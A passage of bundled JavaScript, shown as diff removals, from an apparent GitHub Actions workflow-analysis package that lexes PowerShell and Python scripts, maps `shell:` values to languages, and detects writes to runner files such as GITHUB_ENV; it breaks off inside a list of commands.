-            ((char === "$" || char === "@") && (next === "(" || (next === "{" && char === "@"))));
-    }
-    variableAt(at) {
-        pwsh_read_VARIABLE.lastIndex = at;
-        return pwsh_read_VARIABLE.test(this.text);
-    }
-    splatAt(at) {
-        SPLAT.lastIndex = at;
-        return SPLAT.test(this.text);
-    }
-    variable(parts, quoted) {
-        pwsh_read_VARIABLE.lastIndex = this.at;
-        const match = pwsh_read_VARIABLE.exec(this.text);
-        const start = this.at;
-        this.at += match[0].length;
-        const name = match[1] ?? match[2];
-        // `${${{ x }}}` and the like: the name is what the expression gives.
-        const inner = literalParts(this.source, name, start, this.at, quoted).filter((part) => part.kind === "expression");
-        parts.push({
-            kind: "variable",
-            start,
-            end: this.at,
-            quoted,
-            name: withLowerDrive(name),
-            operator: undefined,
-            operand: inner,
-        });
-    }
-    /** `(…)`, `$(…)`, `@(…)`, `{…}`, `@{…}`: its commands are the script's too. */
-    bracket(parts, quoted, place) {
-        const start = this.at;
-        if (this.text[start] === "$" || this.text[start] === "@")
-            this.at++;
-        const closer = this.text[this.at] === "{" ? "}" : ")";
-        this.at++;
-        const commands = [];
-        this.nested({ ...place, inSubstitution: true, group: undefined }, closer, commands);
-        parts.push({ kind: "substitution", start, end: this.at, quoted, commands });
-    }
-    string(parts, quote, place) {
-        const start = this.at;
-        if (quote === "'") {
-            let end = start + 1;
-            for (;;) {
-                end = this.text.indexOf("'", end);
-                if (end < 0)
-                    end = this.text.length;
-                else if (this.text[end + 1] === "'") {
-                    end += 2;
-                    continue;
-                }
-                break;
-            }
-            this.quote(parts, "single", "single", start, start + 1, Math.min(end, this.text.length), Math.min(end + 1, this.text.length));
-            return;
-        }
-        this.at++;
-        this.recorder.enter(start, "double");
-        this.expandable(parts, "double", place, start, '"');
-        this.at = Math.min(this.at + 1, this.text.length);
-        this.recorder.enter(this.at, "none");
-    }
-    /** A text without expansions; `''` is one quote. */
-    quote(parts, quoted, quoting, start, bodyStart, bodyEnd, end) {
-        this.recorder.enter(start, quoting);
-        const body = this.text.slice(bodyStart, bodyEnd);
-        const value = quoting === "single" ? body.replaceAll("''", "'") : body;
-        if (value === "")
-            parts.push({ kind: "literal", start, end, quoted, value });
-        else
-            parts.push(...literalParts(this.source, value, start, end, quoted));
-        this.at = end;
-        this.recorder.enter(end, "none");
-    }
-    hereString(parts, quote, place) {
-        const start = this.at;
-        const { text } = this;
-        let newline = start + 2;
-        while (newline < text.length && " \t\r".includes(text[newline]))
-            newline++;
-        if (text[newline] !== "\n") {
-            // Not a here-string: `@` is text before a plain string.
-            parts.push({ kind: "literal", start, end: start + 1, quoted: "none", value: "@" });
-            this.at++;
-            return;
-        }
-        const close = text.indexOf(`\n${quote}@`, newline);
-        const bodyEnd = close < 0 ? text.length : Math.max(close, newline + 1);
-        const end = close < 0 ? text.length : close + 3;
-        if (quote === "'") {
-            this.quote(parts, "single", "here-string-single", start, newline + 1, bodyEnd, end);
-            return;
-        }
-        this.recorder.enter(start, "here-string-double");
-        this.at = newline + 1;
-        this.expandable(parts, "heredoc", place, start, "", bodyEnd);
-        this.at = end;
-        this.recorder.enter(end, "none");
-    }
-    /** The inside of a string that expands, up to its closing quote or `limit`. */
-    expandable(parts, quoted, place, open, quote, limit = this.text.length) {
-        const { text } = this;
-        const quoting = quoted === "double" ? "double" : "here-string-double";
-        const before = parts.length;
-        let value = "";
-        let valueStart = open;
-        const flush = () => {
-            if (value !== "")
-                parts.push(...literalParts(this.source, value, valueStart, this.at, quoted));
-            value = "";
-        };
-        while (this.at < limit) {
-            const char = text[this.at];
-            if (char === quote) {
-                if (text[this.at + 1] !== quote)
-                    break;
-                value += quote;
-                this.at += 2;
-            }
-            else if (char === "`" && this.at + 1 < limit) {
-                value += read_ESCAPES.get(text[this.at + 1]) ?? text[this.at + 1];
-                this.at += 2;
-            }
-            else if (char === "$" && text[this.at + 1] === "(" && this.depth < pwsh_read_MAX_DEPTH) {
-                flush();
-                this.recorder.enter(this.at, "none");
-                this.bracket(parts, quoted, place);
-                this.recorder.enter(this.at, quoting);
-                valueStart = this.at;
-            }
-            else if (char === "$" && this.variableAt(this.at)) {
-                flush();
-                this.variable(parts, quoted);
-                valueStart = this.at;
-            }
-            else {
-                value += char;
-                this.at++;
-            }
-        }
-        this.at = Math.min(this.at, text.length);
-        flush();
-        if (parts.length === before)
-            parts.push({ kind: "literal", start: open, end: this.at, quoted, value: "" });
-    }
-}
-const read_ESCAPES = new Map([
-    ["n", "\n"],
-    ["r", "\r"],
-    ["t", "\t"],
-    ["0", "\0"],
-]);
-class PwshWord {
-    source;
-    parts;
-    start;
-    end;
-    constructor(source, span, parts) {
-        this.source = source;
-        this.parts = parts;
-        this.start = span.start;
-        this.end = span.end;
-    }
-    get text() {
-        return this.source.text.slice(this.start, this.end);
-    }
-    get literal() {
-        return literalOf(this.parts);
-    }
-}
-function newDraft(start, isCall) {
-    return { start, end: start, words: [], redirects: [], isCall, assignment: undefined };
-}
-/** A statement that begins so is a value, not the name of a command. */
-function isExpressionWord(word) {
-    return /^(?:[$@"'([{\d]|-\d|\$\{\{)/.test(word.text) && !word.text.startsWith("${{");
-}
-function read_under(place, condition) {
-    return { ...place, conditions: [...place.conditions, condition] };
-}
-/** `$Env:X` and `$env:X` are the same. */
-function withLowerDrive(name) {
-    const colon = name.indexOf(":");
-    return colon < 0 ? name : name.slice(0, colon).toLowerCase() + name.slice(colon);
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/python/lex.js
-
-
-const PREFIX = /(?:[rRbBuUfFtT]{1,2})?(?="|')/y;
-const python_lex_MAX_DEPTH = 50;
-/**
- * String literals and comments of a Python script. Never throws.
- *
- * @see The Python Language Reference, 2.4 "Literals" and 2.4.3 "f-strings"
- */
-function lexPython(source) {
-    return new PythonLexer(source).run();
-}
-class PythonLexer {
-    source;
-    text;
-    recorder = new RegionRecorder();
-    strings = [];
-    at = 0;
-    depth = 0;
-    constructor(source) {
-        this.source = source;
-        this.text = source.masked;
-    }
-    run() {
-        this.code("none", "");
-        this.strings.sort((a, b) => a.start - b.start);
-        return { regions: this.recorder.finish(this.text.length), strings: this.strings };
-    }
-    /** Code up to `end`: the whole text, or the field of an f-string with brackets balanced. */
-    code(quoting, closer, outerQuote = "") {
-        const { text } = this;
-        let open = 0;
-        while (this.at < text.length) {
-            const char = text[this.at];
-            if (closer !== "") {
-                if (char === closer && open === 0)
-                    return;
-                // Before Python 3.12 the quote ends the string even here; an unclosed field shouldn't swallow the script.
-                if (char === "\n" && outerQuote.length === 1)
-                    return;
-                if (char === ":" && open === 0) {
-                    this.formatSpec(outerQuote);
-                    return;
-                }
-                if ("([{".includes(char))
-                    open++;
-                if (")]}".includes(char))
-                    open--;
-                if (outerQuote !== "" && text.startsWith(outerQuote, this.at))
-                    return;
-            }
-            if (char === "#" && closer === "")
-                this.comment();
-            else if (char === '"' || char === "'")
-                this.string(this.prefixStart(), quoting);
-            else
-                this.at++;
-        }
-    }
-    formatSpec(outerQuote) {
-        const { text } = this;
-        while (this.at < text.length) {
-            const char = text[this.at];
-            if (char === "}" || char === "\n" || text.startsWith(outerQuote, this.at))
-                return;
-            if (char === "{" && this.depth < python_lex_MAX_DEPTH) {
-                this.at++;
-                this.depth++;
-                this.code("f-string-field", "}", outerQuote);
-                this.depth--;
-                if (text[this.at] === "}")
-                    this.at++;
-            }
-            else
-                this.at++;
-        }
-    }
-    comment() {
-        this.recorder.enter(this.at, "comment");
-        const end = this.text.indexOf("\n", this.at);
-        this.at = end < 0 ? this.text.length : end;
-        this.recorder.enter(this.at, "none");
-    }
-    /** Offset of the letters before the quote at `at`, if they are a prefix. */
-    prefixStart() {
-        for (const length of [2, 1]) {
-            const start = this.at - length;
-            if (start < 0 || /\w/.test(this.text[start - 1] ?? " "))
-                continue;
-            PREFIX.lastIndex = start;
-            if (PREFIX.exec(this.text)?.[0].length === length)
-                return start;
-        }
-        return this.at;
-    }
-    string(start, outer) {
-        const { text } = this;
-        const prefix = text.slice(start, this.at).toLowerCase();
-        const kind = lex_kindOf(prefix);
-        const char = text[this.at];
-        const quote = text.startsWith(char.repeat(3), this.at) ? char.repeat(3) : char;
-        this.recorder.enter(start, kind);
-        this.at += quote.length;
-        const bodyStart = this.at;
-        const isFormat = kind === "f-string" || kind === "raw-f-string";
-        let hasFields = false;
-        while (this.at < text.length) {
-            const next = text[this.at];
-            if (next === "\\")
-                this.at += 2;
-            else if (text.startsWith(quote, this.at))
-                break;
-            else if (next === "\n" && quote.length === 1)
-                break;
-            else if (isFormat && next === "{") {
-                if (text[this.at + 1] === "{" || this.depth >= python_lex_MAX_DEPTH)
-                    this.at += 2;
-                else {
-                    hasFields = true;
-                    this.field(quote, kind);
-                }
-            }
-            else
-                this.at++;
-        }
-        const bodyEnd = Math.min(this.at, text.length);
-        this.at = text.startsWith(quote, bodyEnd) ? bodyEnd + quote.length : bodyEnd;
-        this.recorder.enter(this.at, outer);
-        const isStatic = !hasFields && !holdsExpression(this.source.expressions, start, this.at);
-        this.strings.push({
-            start,
-            end: this.at,
-            body: { start: bodyStart, end: bodyEnd },
-            kind,
-            quote,
-            value: isStatic ? python_lex_decode(text.slice(bodyStart, bodyEnd), kind) : undefined,
-        });
-    }
-    field(quote, kind) {
-        this.at++;
-        this.recorder.enter(this.at, "f-string-field");
-        this.depth++;
-        this.code("f-string-field", "}", quote);
-        this.depth--;
-        this.recorder.enter(this.at, kind);
-        if (this.text[this.at] === "}")
-            this.at++;
-    }
-}
-function lex_kindOf(prefix) {
-    const isRaw = prefix.includes("r");
-    if (prefix.includes("b"))
-        return isRaw ? "raw-bytes" : "bytes";
-    if (prefix.includes("f") || prefix.includes("t"))
-        return isRaw ? "raw-f-string" : "f-string";
-    return isRaw ? "raw-string" : "string";
-}
-const lex_ESCAPES = new Map([
-    ["n", "\n"],
-    ["r", "\r"],
-    ["t", "\t"],
-    ["\n", ""],
-]);
-function python_lex_decode(body, kind) {
-    const text = kind === "f-string" || kind === "raw-f-string" ? body.replaceAll("{{", "{").replaceAll("}}", "}") : body;
-    if (kind.startsWith("raw") || !text.includes("\\"))
-        return text;
-    return text.replace(/\\([\s\S])/g, (whole, char) => lex_ESCAPES.get(char) ?? ("\\'\"".includes(char) ? char : whole));
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/script.js
-
-
-
-
-
-
-
-
-const NO_COMMANDS = { commands: [], groups: [] };
-/**
- * The text of one `run:` (or of an input that is code), read when asked for. Offsets are UTF-16 offsets into `text`.
- * Nothing here throws, whatever the text.
- */
-class Script {
-    text;
-    shell;
-    given;
-    #source;
-    #parsed;
-    #regions;
-    #strings;
-    constructor(text, shell, given) {
-        this.text = text;
-        this.shell = shell;
-        this.given = given;
-    }
-    /** The `${{ }}` in order, with their fences. */
-    get expressions() {
-        return this.source.expressions;
-    }
-    /** Simple commands in source order, those in substitutions, functions and `bash -c` texts included; none of Python and JavaScript. */
-    get commands() {
-        return this.parsed.commands;
-    }
-    /** Compound commands in the order of their beginnings. */
-    get groups() {
-        return this.parsed.groups;
-    }
-    /** What isn't plain code: quotes, comments, here-documents. */
-    get regions() {
-        this.#regions ??= this.readRegions();
-        return this.#regions;
-    }
-    /** String literals of Python and JavaScript, in order of their beginnings; none of the shells. */
-    get strings() {
-        if (!this.#strings)
-            this.readRegions();
-        return this.#strings ?? [];
-    }
-    /** What an offset is inside of; a quote itself counts as inside, the fence of a substitution as outside. */
-    quotingAt(offset) {
-        return quotingIn(this.regions, offset);
-    }
-    /** The innermost string literal around an offset; Python and JavaScript only. */
-    stringAt(offset) {
-        return this.strings.findLast(({ start, end }) => start <= offset && offset < end);
-    }
-    get source() {
-        this.#source ??= scriptSource(this.text, this.given);
-        return this.#source;
-    }
-    get parsed() {
-        this.#parsed ??= this.read();
-        return this.#parsed;
-    }
-    read() {
-        switch (this.shell) {
-            case "bash":
-            case "sh":
-                return readBash(this.source);
-            case "unknown":
-                return readWords(this.source);
-            case "pwsh":
-            case "powershell":
-                return this.keepRegions(readPwsh(this.source));
-            case "cmd":
-                return this.keepRegions(readCmd(this.source));
-            default:
-                return NO_COMMANDS;
-        }
-    }
-    readRegions() {
-        switch (this.shell) {
-            case "python":
-            case "javascript": {
-                const lexed = this.shell === "python" ? lexPython(this.source) : lexJavaScript(this.source);
-                this.#strings = lexed.strings;
-                this.#regions = lexed.regions;
-                return lexed.regions;
-            }
-            case "bash":
-            case "sh":
-            case "unknown":
-                return scanBash(this.source.masked).regions;
-            default:
-                // One pass finds both.
-                void this.parsed;
-                return this.#regions ?? [];
-        }
-    }
-    keepRegions(read) {
-        this.#regions = read.regions;
-        return read;
-    }
-}
-/**
- * A script that is read when its commands or quotes are asked for.
- *
- * @param text the decoded text, `${{ }}` and all
- * @param expressions the `${{ }}` of the text, ordered; found here when the caller hasn't found them already
- */
-function parseScript(text, shell, expressions) {
-    return new Script(text, shell, expressions);
-}
-/** What an offset of the script is inside of; see `Script.quotingAt`. */
-function quotingAt(script, offset) {
-    return script.quotingAt(offset);
-}
-/** Does the text hold any of the names, in any case? A look that is cheap enough to come before parsing. */
-function mentions(text, names) {
-    let lower;
-    for (const name of names) {
-        if (text.includes(name))
-            return true;
-        lower ??= text.toLowerCase();
-        if (lower.includes(name.toLowerCase()))
-            return true;
-    }
-    return false;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/shell-name.js
-const shell_name_SHELLS = new Map([
-    ["bash", "bash"],
-    ["sh", "sh"],
-    ["dash", "sh"],
-    ["ash", "sh"],
-    ["zsh", "bash"],
-    ["ksh", "bash"],
-    ["pwsh", "pwsh"],
-    ["pwsh-preview", "pwsh"],
-    ["powershell", "powershell"],
-    ["cmd", "cmd"],
-    ["node", "javascript"],
-    ["nodejs", "javascript"],
-    ["bun", "javascript"],
-    ["deno", "javascript"],
-]);
-const PYTHON = /^(?:python|pypy)[0-9.]*$/;
-const shell_name_WRAPPERS = new Set(["env", "sudo", "command", "exec"]);
-/**
- * The language of a script from the value of its `shell:` key, which is a name (`bash`) or a command line with `{0}` in
- * the place of the script's file (`/bin/bash -e {0}`, `C:\Program Files\Git\bin\bash.exe {0}`).
- *
- * @see GitHub's workflow syntax, `jobs.<job_id>.steps[*].shell`, "Custom shell"
- */
-function shellOf(value) {
-    return shell_name_SHELLS.get(value) ?? languageOf(value.trim().toLowerCase());
-}
-function languageOf(line) {
-    const words = line.split(/\s+/);
-    for (let count = 1; count <= words.length; count++) {
-        const program = shell_name_baseName(words.slice(0, count).join(" "));
-        const known = shell_name_SHELLS.get(program) ?? (PYTHON.test(program) ? "python" : undefined);
-        if (known)
-            return known;
-        // `/usr/bin/env bash {0}`: look at what follows; a Windows path may hold spaces, so go on until a program ends.
-        if (shell_name_WRAPPERS.has(program))
-            return languageOf(words.slice(count).filter(isProgram).join(" "));
-        if (!isUnfinishedPath(words[0]) || count > 8)
-            return "unknown";
-    }
-    return "unknown";
-}
-function isProgram(word) {
-    return !word.startsWith("-") && !word.includes("=");
-}
-function isUnfinishedPath(first) {
-    return /^["']?[a-z]:[\\/]/.test(first) || first.startsWith('"') || first.startsWith("'");
-}
-function shell_name_baseName(path) {
-    const bare = path.replaceAll(/["']/g, "");
-    const cut = Math.max(bare.lastIndexOf("/"), bare.lastIndexOf("\\"));
-    return bare.slice(cut + 1).replace(/\.(?:exe|cmd|bat)$/, "");
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/embedded-programs.js
-
-
-/** `python - <<EOF …`, `python -c "…"`, `node -e '…'`, `pwsh -Command '…'` where the text is there word for word. */
-function embeddedPrograms(script) {
-    const found = [];
-    for (const command of script.commands) {
-        const shell = embedded_programs_languageOf(command);
-        if (!shell)
-            continue;
-        for (const { heredoc } of command.redirects)
-            if (heredoc)
-                found.push({ shell, ...heredoc.body });
-        const { args } = effectiveCommand(command);
-        for (let index = 1; index < args.length; index++) {
-            if (!/^-(?:c|e|p|-eval|command|-command)$/i.test(args[index - 1]?.literal ?? ""))
-                continue;
-            const body = quotedBody(args[index], script);
-            if (body)
-                found.push({ shell, ...body });
-        }
-    }
-    return found;
-}
-function embedded_programs_languageOf(command) {
-    const program = effectiveCommand(command).name?.literal;
-    if (program === undefined)
-        return undefined;
-    const shell = shellOf(program);
-    return shell === "python" || shell === "javascript" || shell === "pwsh" || shell === "powershell" ? shell : undefined;
-}
-function quotedBody({ start, end }, script) {
-    const quote = script.text[start];
-    const isQuoted = (quote === "'" || quote === '"') && end - start > 1 && script.text[end - 1] === quote;
-    return isQuoted ? { start: start + 1, end: end - 1 } : undefined;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/program-writes.js
-
-/** More are found in no program that a person wrote; each costs a look at the whole. */
-const MAX_REFERENCES = 40;
-const MAX_USES = 40;
-/** No statement of a person is longer. */
-const MAX_STATEMENT = 20_000;
-/** Writes by a Python script: `open(os.environ["GITHUB_ENV"], "a")`, `Path(os.getenv("GITHUB_ENV")).write_text(…)`. */
-function pythonWrites(script, names) {
-    const code = blankStrings(script);
-    const writes = [];
-    const dynamic = dynamicPythonContent(script, code);
-    for (const reference of pythonReferences(script, code, names).slice(0, MAX_REFERENCES)) {
-        const before = code.slice(0, reference.start);
-        const alias = /(?:^|\n)[ \t]*([A-Za-z_]\w*)[ \t]*(?::[^=\n]*)?=[ \t]*$/.exec(before.slice(-200))?.[1];
-        const places = alias === undefined ? [reference] : usesOf(code, alias, reference);
-        for (const place of places) {
-            if (!isWrittenInPython(script, code, place))
-                continue;
-            writes.push(program_writes_made(script, code, { ...place, file: reference.file }, dynamic));
-        }
-    }
-    return writes;
-}
-/** Writes by JavaScript: `fs.appendFileSync(process.env.GITHUB_ENV, "…")`. */
-function javascriptWrites(script, names) {
-    const code = blankStrings(script);
-    const writes = [];
-    for (const reference of javascriptReferences(script, code, names).slice(0, MAX_REFERENCES)) {
-        const before = code.slice(Math.max(0, reference.start - 200), reference.start);
-        const alias = /\b(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*$/.exec(before)?.[1];
-        const places = alias === undefined ? [reference] : usesOf(code, alias, reference);
-        for (const place of places) {
-            if (!/\b(?:appendFile|writeFile|createWriteStream|outputFile)(?:Sync)?\s*\(\s*$/.test(code.slice(Math.max(0, place.start - 60), place.start))) {
-                continue;
-            }
-            const end = closingBracket(code, place.end);
-            const content = { start: place.end, end };
-            const isFixed = code[place.end] === "," && isFixedText(script, code, content);
-            writes.push(program_writes_made(script, code, { ...place, file: reference.file }, isFixed ? undefined : content));
-        }
-    }
-    return writes;
-}
-/** The code with strings, comments and expressions replaced by blanks: what a pattern may look at. */
-function blankStrings(script) {
-    let code = "";
-    let at = 0;
-    for (const { start, end, quoting } of script.regions) {
-        if (quoting === "f-string-field" || quoting === "template-expression")
-            continue;
-        code += script.text.slice(at, start) + script.text.slice(start, end).replace(/[^\n]/g, " ");
-        at = end;
-    }
-    return code + script.text.slice(at);
-}
-function pythonReferences(script, code, names) {
-    const found = [];
-    for (const string of script.strings) {
-        if (string.value === undefined || !names.includes(string.value))
-            continue;
-        const opening = /(?:os\.)?(?:environ(?:\.get)?\s*[[(]|getenv\s*\()\s*$/.exec(code.slice(Math.max(0, string.start - 60), string.start));
-        if (!opening)
-            continue;
-        const closing = code.slice(string.end, string.end + 200).search(/[\])]/);
-        const end = closing < 0 ? string.end : string.end + closing + 1;
-        found.push({ file: string.value, start: string.start - opening[0].length, end });
-    }
-    return found;
-}
-function javascriptReferences(script, code, names) {
-    const found = [];
-    for (const match of code.matchAll(/\bprocess\.env\.([A-Z_]{1,40})\b/g)) {
-        const file = match[1];
-        if (names.includes(file))
-            found.push({ file, start: match.index, end: match.index + match[0].length });
-    }
-    for (const string of script.strings) {
-        if (string.value === undefined || !names.includes(string.value))
-            continue;
-        const opening = /\bprocess\.env\s*\[\s*$/.exec(code.slice(Math.max(0, string.start - 40), string.start));
-        if (opening)
-            found.push({
-                file: string.value,
-                start: string.start - opening[0].length,
-                end: code.indexOf("]", string.end) + 1 || string.end,
-            });
-    }
-    return found.sort((a, b) => a.start - b.start);
-}
-/** Where a variable that holds the path is used after it was set. */
-function usesOf(code, name, after) {
-    const uses = [];
-    const escaped = name.replaceAll("$", "\\$");
-    for (const match of code.matchAll(new RegExp(`(?<![\\w$.])${escaped}(?![\\w$])`, "g"))) {
-        if (match.index > after.end)
-            uses.push({ start: match.index, end: match.index + name.length });
-        if (uses.length === MAX_USES)
-            break;
-    }
-    return uses;
-}
-function isWrittenInPython(script, code, { start, end }) {
-    const before = code.slice(Math.max(0, start - 60), start);
-    if (/\bopen\s*\(\s*(?:file\s*=\s*)?$/.test(before))
-        return isWriteMode(script, code, end);
-    if (!/\bPath\s*\(\s*$/.test(before))
-        return false;
-    const after = /^\s*\)\s*\.\s*(write_text|write_bytes|open)\s*\(/.exec(code.slice(end, end + 100));
-    return after !== null && (after[1] !== "open" || isWriteMode(script, code, end + after[0].length));
-}
-/** Does the next string up to the closing bracket say that the file is opened to write? */
-function isWriteMode(script, code, from) {
-    const limit = closingBracket(code, from);
-    const mode = script.strings.find(({ start }) => start >= from && start < limit);
-    return mode?.value !== undefined && /[wax+]/.test(mode.value);
-}
-function dynamicPythonContent(script, code) {
-    let calls = 0;
-    for (const match of code.matchAll(/\.(?:write|writelines|write_text)\s*\(|\bprint\s*\(/g)) {
-        const start = match.index + match[0].length;
-        const content = { start, end: closingBracket(code, start) };
-        const isPrint = match[0].startsWith("print");
-        if (isPrint && !/\bfile\s*=/.test(code.slice(content.start, content.end)))
-            continue;
-        calls++;
-        if (!isFixedText(script, code, content))
-            return content;
-    }
-    return calls === 0 ? { start: 0, end: script.text.length } : undefined;
-}
-/** Only literals without anything expanded into them? */
-function isFixedText(script, code, { start, end }) {
-    if (holdsExpression(script.expressions, start, end))
-        return false;
-    if (script.strings.some((string) => string.start >= start && string.end <= end && string.value === undefined))
-        return false;
-    const rest = code.slice(start, end).replace(/\bfile\s*=\s*\w+/, "");
-    return /^[\s,+()[\]]*$/.test(rest);
-}
-/** The offset of the bracket that closes the one that is open at `from`. */
-function closingBracket(code, from) {
-    const limit = Math.min(code.length, from + MAX_STATEMENT);
-    let open = 0;
-    for (let at = from; at < limit; at++) {
-        const char = code[at];
-        if ("([{".includes(char))
-            open++;
-        else if (")]}".includes(char) && --open < 0)
-            return at;
-    }
-    return limit;
-}
-function program_writes_made(script, code, reference, dynamic) {
-    return {
-        file: reference.file,
-        span: statementAround(code, reference),
-        targetSpan: { start: reference.start, end: reference.end },
-        command: undefined,
-        content: dynamic ? "dynamic" : "static",
-        dynamicSpan: dynamic && { start: dynamic.start, end: Math.min(dynamic.end, script.text.length) },
-    };
-}
-/** The line of the reference, without blanks around it. */
-function statementAround(code, { start, end }) {
-    const lineStart = code.lastIndexOf("\n", start - 1) + 1;
-    const newline = code.indexOf("\n", end);
-    const lineEnd = newline < 0 ? code.length : newline;
-    const indent = code.slice(lineStart, start).search(/\S|$/);
-    return {
-        start: Math.min(lineStart + indent, start),
-        end: Math.max(end, lineStart + code.slice(lineStart, lineEnd).trimEnd().length),
-    };
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/target.js
-const CONTEXTS = new Map([
-    ["github.env", "GITHUB_ENV"],
-    ["github.path", "GITHUB_PATH"],
-    ["github.output", "GITHUB_OUTPUT"],
-    ["github.state", "GITHUB_STATE"],
-    ["github.step_summary", "GITHUB_STEP_SUMMARY"],
-]);
-/** Tells which of the runner's files a word names: directly, through `${{ github.env }}`, or by a variable set to one. */
-class Targets {
-    script;
-    aliases = new Map();
-    names;
-    constructor(script, names) {
-        this.script = script;
-        this.names = new Set(names);
-        // Twice, so that an alias of an alias is found.
-        for (let round = 0; round < 2; round++) {
-            for (const command of script.commands)
-                for (const assignment of command.assignments)
-                    this.learn(assignment);
-        }
-    }
-    /** The file's name, such as `GITHUB_ENV`. */
-    of(word) {
-        if (!word)
-            return undefined;
-        const [part, second, ...rest] = word.parts.filter((one) => one.kind !== "literal" || one.value !== "");
-        if (!part || rest.length > 0)
-            return undefined;
-        if (second)
-            return this.script.shell === "unknown" ? this.powershellName(part, second) : undefined;
-        if (part.kind === "expression")
-            return this.ofExpression(part.start, part.end);
-        if (part.kind !== "variable" || part.operator === "length" || part.operator === "indirect")
-            return undefined;
-        return this.ofVariable(part.name);
-    }
-    ofVariable(name) {
-        const { shell } = this.script;
-        const folds = shell !== "bash" && shell !== "sh" && shell !== "unknown";
-        const bare = folds ? name.toUpperCase().replace(/^ENV:/, "") : name;
-        // `$GITHUB_ENV` in PowerShell is a variable of the script, not the runner's.
-        const isRunners = isPowerShell(shell) ? name.startsWith("env:") : true;
-        if (isRunners && this.names.has(bare))
-            return bare;
-        return this.aliases.get(folds ? name.toUpperCase() : name);
-    }
-    ofExpression(start, end) {
-        const body = this.script.text
-            .slice(start + 3, end - 2)
-            .trim()
-            .toLowerCase();
-        const name = CONTEXTS.get(body);
-        return name !== undefined && this.names.has(name) ? name : undefined;
-    }
-    /** `$env:GITHUB_ENV` in a script whose shell isn't known. */
-    powershellName(part, rest) {
-        if (part.kind !== "variable" || part.name.toLowerCase() !== "env" || rest.kind !== "literal")
-            return undefined;
-        const name = rest.value.slice(1).toUpperCase();
-        return rest.value.startsWith(":") && this.names.has(name) ? name : undefined;
-    }
-    learn(assignment) {
-        const file = assignment.values.length === 1 ? this.of(assignment.values[0]) : undefined;
-        if (file === undefined)
-            return;
-        const { shell } = this.script;
-        const isExact = shell === "bash" || shell === "sh" || shell === "unknown";
-        this.aliases.set(isExact ? assignment.name : assignment.name.toUpperCase(), file);
-    }
-}
-function isPowerShell(shell) {
-    return shell === "pwsh" || shell === "powershell";
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/pwsh/aliases.js
-const ALIASES = new Map([
-    ["ac", "add-content"],
-    ["cat", "get-content"],
-    ["copy", "copy-item"],
-    ["cp", "copy-item"],
-    ["cpi", "copy-item"],
-    ["curl", "invoke-webrequest"],
-    ["echo", "write-output"],
-    ["foreach", "foreach-object"],
-    ["%", "foreach-object"],
-    ["gc", "get-content"],
-    ["iex", "invoke-expression"],
-    ["ii", "invoke-item"],
-    ["irm", "invoke-restmethod"],
-    ["iwr", "invoke-webrequest"],
-    ["move", "move-item"],
-    ["mv", "move-item"],
-    ["ni", "new-item"],
-    ["saps", "start-process"],
-    ["sc", "set-content"],
-    ["select", "select-object"],
-    ["sls", "select-string"],
-    ["start", "start-process"],
-    ["tee", "tee-object"],
-    ["type", "get-content"],
-    ["wget", "invoke-webrequest"],
-    ["where", "where-object"],
-    ["?", "where-object"],
-    ["write", "write-output"],
-]);
-/**
- * The command behind an alias of PowerShell, in lower case; other names in lower case as they are. `curl` and `wget`
- * are aliases in Windows PowerShell only, `cat`, `cp`, `mv` and `tee` on Windows only: who must tell them apart looks at
- * the name itself.
- */
-function pwshAlias(name) {
-    const lower = name.toLowerCase();
-    return ALIASES.get(lower) ?? lower;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/constants.js
-/**
- * Variables whose value no event, input or repository file decides: the runner's folders, numbers and names.
- *
- * @see GitHub's reference of default environment variables; names that hold a ref, an actor or a title aren't here
- */
-const CONSTANTS = new Set([
-    "ANDROID_HOME",
-    "APPDATA",
-    "BASHPID",
-    "CI",
-    "EPOCHREALTIME",
-    "EPOCHSECONDS",
-    "EUID",
-    "GITHUB_ACTION_PATH",
-    "GITHUB_API_URL",
-    "GITHUB_EVENT_NAME",
-    "GITHUB_EVENT_PATH",
-    "GITHUB_GRAPHQL_URL",
-    "GITHUB_JOB",
-    "GITHUB_REPOSITORY",
-    "GITHUB_REPOSITORY_ID",
-    "GITHUB_REPOSITORY_OWNER",
-    "GITHUB_REPOSITORY_OWNER_ID",
-    "GITHUB_RUN_ATTEMPT",
-    "GITHUB_RUN_ID",
-    "GITHUB_RUN_NUMBER",
-    "GITHUB_SERVER_URL",
-    "GITHUB_SHA",
-    "GITHUB_WORKFLOW_SHA",
-    "GITHUB_WORKSPACE",
-    "HOME",
-    "HOSTNAME",
-    "HOSTTYPE",
-    "LINENO",
-    "LOCALAPPDATA",
-    "MACHTYPE",
-    "OLDPWD",
-    "OSTYPE",
-    "PATH",
-    "PROGRAMFILES",
-    "PROGRAMFILES(X86)",
-    "PWD",
-    "RANDOM",
-    "RUNNER_ARCH",
-    "RUNNER_NAME",
-    "RUNNER_OS",
-    "RUNNER_TEMP",
-    "RUNNER_TOOL_CACHE",
-    "RUNNER_WORKSPACE",
-    "SECONDS",
-    "SHELL",
-    "SYSTEMROOT",
-    "TEMP",
-    "TMP",
-    "TMPDIR",
-    "UID",
-    "USER",
-    "USERPROFILE",
-]);
-/** Numbers of the shell itself. */
-const SPECIAL = new Set(["?", "$", "!", "#", "-"]);
-/** Is the variable fixed by the runner or the shell? PowerShell's `env:X` is asked for as `env:X`. */
-function isConstant(name) {
-    const bare = name.startsWith("env:") ? name.slice(4).toUpperCase() : name;
-    return CONSTANTS.has(bare) || SPECIAL.has(bare) || /^(?:pwd|home|PSScriptRoot|true|false|null)$/i.test(name);
-}
-/** Commands that print nothing that others decide, whatever their options: numbers, dates, folders of the runner. */
-const CONSTANT_OUTPUT = new Set([
-    "arch",
-    "date",
-    "get-date",
-    "get-location",
-    "hostname",
-    "id",
-    "mktemp",
-    "new-guid",
-    "nproc",
-    "pwd",
-    "seq",
-    "sw_vers",
-    "uname",
-    "uuidgen",
-    "wc",
-    "whoami",
-]);
-/** Commands that print what their arguments say. */
-const PRINTS_ARGUMENTS = new Set([
-    "basename",
-    "command",
-    "cygpath",
-    "dirname",
